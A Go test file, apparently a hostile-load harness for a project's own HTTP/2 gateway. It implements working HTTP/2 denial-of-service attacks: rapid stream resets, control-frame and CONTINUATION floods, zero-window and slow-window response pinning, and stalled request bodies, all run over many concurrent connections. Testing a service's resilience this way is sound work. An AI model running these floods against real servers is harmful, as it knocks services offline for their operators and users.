//go:build hostile

package gateway

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Streams are opened and reset at once, more than any browser does.
func h2Resets(ctx context.Context, a *attackers) {
	head := headerBlock(steady, "/")
	a.h2(ctx, func(framer *http2.Framer, stream uint32) error {
		err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndStream: true, EndHeaders: true})
		if err != nil {
			return err
		}
		return framer.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

// Frames that ask for an answer, or for nothing at all.
func h2ControlFrames(ctx context.Context, a *attackers) {
	head := headerBlock(steady, "/")
	a.h2(ctx, func(framer *http2.Framer, stream uint32) error {
		if stream == 1 {
			return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndHeaders: true})
		}
		if err := framer.WritePing(false, [8]byte{1}); err != nil {
			return err
		}
		if err := framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535}); err != nil {
			return err
		}
		return framer.WriteData(1, false, nil)
	})
}

// floods are frames that cost their sender nothing, one kind for each connection in turn.
var floods = []func(framer *http2.Framer, stream uint32) error{
	func(framer *http2.Framer, _ uint32) error { return framer.WriteWindowUpdate(0, 1) },
	func(framer *http2.Framer, stream uint32) error {
		return framer.WritePriority(stream, http2.PriorityParam{StreamDep: 0, Weight: uint8(stream)})
	},
	// A head that never ends, in pieces that hold a field each.
	func(framer *http2.Framer, stream uint32) error {
		if stream == 1 {
			return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headerBlock(steady, "/")})
		}
		return framer.WriteContinuation(1, false, endless)
	},
	// One that holds nothing at all.
	func(framer *http2.Framer, stream uint32) error {
		if stream == 1 {
			return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headerBlock(steady, "/")})
		}
		return framer.WriteContinuation(1, false, nil)
	},
}

var endless = encode([]hpack.HeaderField{{Name: "x-endless", Value: string(bytes.Repeat([]byte("x"), 64))}})

// A connection that ends, as one does whose head is too large, is followed by another.
func h2Floods(ctx context.Context, a *attackers) {
	var next atomic.Int64
	a.held(ctx, 8, func() { a.flood(ctx, floods[int(next.Add(1)-1)%len(floods)]) })
}

// Large responses are asked for, and no window is ever opened for them.
func h2UnreadResponses(ctx context.Context, a *attackers) {
	head := headerBlock(rotatingHost, "/large")
	a.held(ctx, 20, func() {
		c, framer, err := a.dialH2(ctx, rotatingHost, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return
		}
		defer c.Close()
		for stream := uint32(1); stream < 20; stream += 2 {
			if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndStream: true, EndHeaders: true}); err != nil {
				return
			}
		}
		a.wait(ctx, c)
	})
}

// Large responses whose windows are opened by a hundred bytes a second: what the connection has is taken at once, and each response lies still.
func slowWindowsH2(ctx context.Context, a *attackers) {
	const streams, opened = 10, 100
	head := headerBlock(rotatingHost, "/large")
	a.held(ctx, 20, func() {
		a.lag(ctx)
		c, framer, err := a.dialH2(ctx, rotatingHost, http2.Setting{ID: http2.SettingInitialWindowSize, Val: opened})
		if err != nil {
			return
		}
		defer c.Close()
		for number := range uint32(streams) {
			if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*number + 1, BlockFragment: head, EndStream: true, EndHeaders: true}); err != nil {
				return
			}
		}
		go closeWhenReset(c, framer, streams)
		for ctx.Err() == nil {
			pause(ctx, time.Second)
			err := framer.WriteWindowUpdate(0, streams*opened)
			for number := range uint32(streams) {
				if err == nil {
					err = framer.WriteWindowUpdate(2*number+1, opened)
				}
			}
			if err != nil {
				return
			}
		}
	})
}

// closeWhenReset takes what comes, and closes the connection when so many of its streams are over.
func closeWhenReset(c net.Conn, framer *http2.Framer, streams int) {
	defer c.Close()
	for streams > 0 {
		frame, err := framer.ReadFrame()
		var ended http2.StreamError
		if err != nil && !errors.As(err, &ended) {
			return
		}
		if _, reset := frame.(*http2.RSTStreamFrame); reset {
			streams--
		}
	}
}

// Bodies are announced on as many streams as a few connections have, and never come.
func h2Bodies(ctx context.Context, a *attackers) {
	head := encode(h2Request("POST", "https", rotatingHost, "/", hpack.HeaderField{Name: "content-length", Value: "10000"}))
	a.crowd(ctx, nil, func(framer *http2.Framer, stream uint32) error {
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndHeaders: true}); err != nil {
			return err
		}
		return framer.WriteData(stream, false, []byte("x"))
	})
}

// Small responses are asked for on as many streams, and no window is ever opened for them: HAProxy keeps them, and varnishd is done with them at once.
func h2NoWindow(ctx context.Context, a *attackers) {
	head := headerBlock(rotatingHost, "/")
	a.crowd(ctx, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(framer *http2.Framer, stream uint32) error {
		return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndStream: true, EndHeaders: true})
	})
}

// crowd holds three connections with more streams on each than HAProxy allows: those that end make room for the others.
func (a *attackers) crowd(ctx context.Context, settings []http2.Setting, open func(framer *http2.Framer, stream uint32) error) {
	a.held(ctx, 3, func() {
		c, framer, err := a.dialH2(ctx, rotatingHost, settings...)
		if err != nil {
			return
		}
		defer c.Close()
		for stream := uint32(1); stream < 2*79; stream += 2 {
			if err := open(framer, stream); err != nil {
				return
			}
		}
		a.wait(ctx, c)
	})
}

// h2 holds eight connections of HTTP/2, on each of which something is done five hundred times a second with the number of the next stream.
func (a *attackers) h2(ctx context.Context, do func(framer *http2.Framer, stream uint32) error) {
	a.held(ctx, 8, func() { a.flood(ctx, do) })
}

func (a *attackers) flood(ctx context.Context, do func(framer *http2.Framer, stream uint32) error) {
	c, framer, err := a.dialH2(ctx, steady)
	if err != nil {
		return
	}
	defer c.Close()
	go func() { _, _ = io.Copy(io.Discard, c) }()
	for stream := uint32(1); ctx.Err() == nil; stream += 2 {
		if err := do(framer, stream); err != nil {
			return
		}
		pause(ctx, 2*time.Millisecond)
	}
}
